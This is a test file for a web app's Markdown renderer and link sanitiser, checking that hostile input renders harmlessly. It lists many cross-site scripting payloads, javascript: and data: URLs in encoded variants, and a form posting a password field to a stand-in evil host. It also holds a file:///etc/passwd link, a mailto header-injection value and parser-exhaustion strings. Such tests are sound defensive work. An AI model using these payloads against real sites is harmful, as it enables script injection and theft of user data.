import { renderWithApp } from '@tests/support/render-app'
import { describe, expect, it } from 'vitest'
import { safeAddress } from './addresses'
import { Markdown } from './markdown'
import { parseMarkdown } from './parse'

const show = async (text: string) => {
  const { container } = renderWithApp(<Markdown document={await parseMarkdown(text)} />)
  return container
}

/** What may stand in a page that was made of a text, and what none of it may carry. */
const allowed =
  'DIV P H2 H3 H4 H5 H6 A STRONG EM DEL CODE PRE SPAN BR HR UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD INPUT IMG FIGURE FIGCAPTION'
const attributes = new Set(
  'class id href rel src srcset sizes width height alt loading decoding dir role aria-label tabindex scope start type disabled readonly checked style'.split(
    ' ',
  ),
)

function expectHarmless(container: HTMLElement) {
  for (const element of container.querySelectorAll('*')) {
    expect(allowed.split(' ')).toContain(element.tagName)
    for (const { name, value } of element.attributes) {
      expect(attributes).toContain(name)
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|\/(?!\/)|#)/)
      if (name === 'src') expect(value).toMatch(/^\/storage\/v1\/object\/public\/content-images\//)
      if (name === 'id') expect(value).toMatch(/^part-/)
    }
  }
}

describe('Markdown that means harm', () => {
  it.each([
    '<script>alert(1)</script>',
    'a <script src=//evil.example/x.js></script> b',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<base href="https://evil.example/">',
    '<form action=https://evil.example><input name=password></form>',
    '<div style="position:fixed;inset:0">x</div>',
    '<!-- --><script>alert(1)</script><!-- -->',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?>',
    '`</code><script>alert(1)</script>`',
    '```"><script>alert(1)</script>\nx\n```',
    '```html\n<script>alert(1)</script>\n```',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '# <img src=x onerror=alert(1)>',
    '[x]: javascript:alert(1)\n[x]',
    '[a](https://x.example "\"><script>alert(1)</script>")',
    '![" onerror="alert(1)](/storage/v1/object/public/content-images/x.webp)',
    '# main\n# root\n# site-data\n# __proto__\n# constructor',
  ])('is words and no more: %s', async (text) => {
    expectHarmless(await show(text))
  })

  it('shows html as it was written, and comments not at all', async () => {
    const container = await show(
      '<b>bold</b> <!-- for the editor --> text\n\n<!-- hidden -->\n\nend',
    )
    expect(container.textContent).toBe('<b>bold</b>  textend')
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript:alert(1)',
    'javascript&#58;alert(1)',
    'javascript%3Aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://x.example/1',
    'filesystem:https://x.example/1',
    'view-source:https://x.example',
    'about:blank',
    'tel:+1',
    'ftp://x.example',
    '//evil.example',
    '///evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    '/..//evil.example',
    '/.//evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:///evil.example',
    'http://',
    'https://exa mple.org',
    'https://[::1',
    'page',
    '../page',
    '?query',
    'mailto:',
    'mailto:a@b.example?x?y',
    'mailto:a@b.example\r\nbcc:c@d.example',
    '#"><script>',
    '',
  ])('leads nowhere: %j', async (address) => {
    expect(safeAddress(address)).toBeNull()
    for (const text of [
      `[x](<${address}>)`,
      `[x](${address})`,
      `<${address}>`,
      `[x][y]\n\n[y]: ${address}`,
    ]) {
      const container = await show(text)
      expectHarmless(container)
      for (const link of container.querySelectorAll('a')) {
        expect(link.getAttribute('href')).not.toMatch(/evil|script/)
      }
    }
  })

  it.each([
    'https://spy.example/x.png',
    'http://localhost/storage/v1/object/public/content-images/x.webp',
    '/storage/v1/object/public/other/0b0b0b0b-0000-4000-8000-000000000001/1.webp#1x1-1',
    '/storage/v1/object/public/content-images/../x/0b0b0b0b-0000-4000-8000-000000000001/1.webp#1x1-1',
    '/storage/v1/object/public/content-images/0b0b0b0b-0000-4000-8000-000000000001/1.svg#1x1-1',
    '/storage/v1/object/public/content-images/0b0b0b0b-0000-4000-8000-000000000001/1.webp',
    '//evil.example/storage/v1/object/public/content-images/0b0b0b0b-0000-4000-8000-000000000001/1.webp#1x1-1',
    'data:image/svg+xml,%3Csvg onload=alert(1)%3E',
    'javascript:alert(1)',
  ])('shows no picture of %s', async (address) => {
    const container = await show(`![seen](<${address}>)`)
    expect(container.querySelector('img')).toBeNull()
    expect(container.textContent).toBe('seen')
  })

  it('has no link in a link', async () => {
    const container = await show(
      '[a https://b.example c](https://d.example) [![x](y)](/z) [](/empty)',
    )
    expect(container.querySelector('a a')).toBeNull()
    expect(container.querySelectorAll('a')).toHaveLength(2)
  })

  const mega = 1_000_000
  const fill = (part: string, size = mega) => part.repeat(Math.ceil(size / part.length))
  /** Each row has as many cells as the first line, however few are written. */
  const wideTable = (columns: number, rows: number) =>
    ['a|', '-|'].map((part) => `|${part.repeat(columns)}\n`).join('') + '|a\n'.repeat(rows)
  const cases: [string, string][] = [
    ['quotes', fill('>')],
    ['quotes with spaces', fill('> ')],
    ['quotes on every line', fill('> > > > > > > > > > > > a\n')],
    ['lists in quotes in lists', fill('- > ')],
    ['lists in lists', fill('- ')],
    [
      'deeper and deeper lists',
      Array.from({ length: 1400 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    ],
    [
      'deeper and deeper quotes',
      Array.from({ length: 1400 }, (_, depth) => `${'> '.repeat(depth)}a`).join('\n'),
    ],
    ['brackets', fill('[')],
    ['links that never end', fill('[a](')],
    ['pictures that never end', fill('![a](')],
    ['stars', fill('*')],
    ['stars and words', fill('*a **b ')],
    ['underscores', fill('_a __b ')],
    ['tildes', fill('~~a~')],
    ['backticks', Array.from({ length: 1400 }, (_, count) => '`'.repeat(count)).join('a')],
    ['html that never ends', fill('<a b="')],
    ['comments that never end', fill('<!--')],
    ['addresses', fill('http://a.b/?&;')],
    ['mail addresses', fill('a.b@c.')],
    ['definitions', fill('[a]: b\n')],
    ['a broken table', `${fill('|a', 50_000)}\n${fill('|-', 50_000)}\n${fill('|\n', 50_000)}`],
    ['a wide table with many short rows', wideTable(600, 6000)],
    ['the same in a quote', wideTable(600, 6000).replace(/^/gm, '> ')],
    ['a table without rows', '| a | b |\n|---|'],
    ['a table that is too narrow', '| a |\n|---|\n| 1 | 2 | 3 |\n| |'],
    ['spaces', `${fill(' ')}a`],
    ['empty lines', `${fill('\n')}a`],
    ['nothing but marks', fill('e\u0301\u0302')],
    ['half of characters', fill('\ud800')],
    ['zeros', fill('\0')],
  ]
  // What takes longer than the time for a test, or more memory than there is, does not end.
  it.each(cases)('ends: %s', async (_, text) => {
    const document = await parseMarkdown(text)
    expect(JSON.stringify(document).length).toBeLessThan(6_000_000)
  })

  it('is still a table, however long, when it is as wide as people write them', async () => {
    const container = await show(wideTable(12, 400))
    expect(container.querySelectorAll('tbody tr')).toHaveLength(400)
  })

  it('is drawn, however deep it is nested', async () => {
    expectHarmless(await show(fill('> ', 3000)))
    expectHarmless(await show(fill('- > * ', 3000)))
    expectHarmless(await show(fill('**a *b ', 3000)))
  })
})
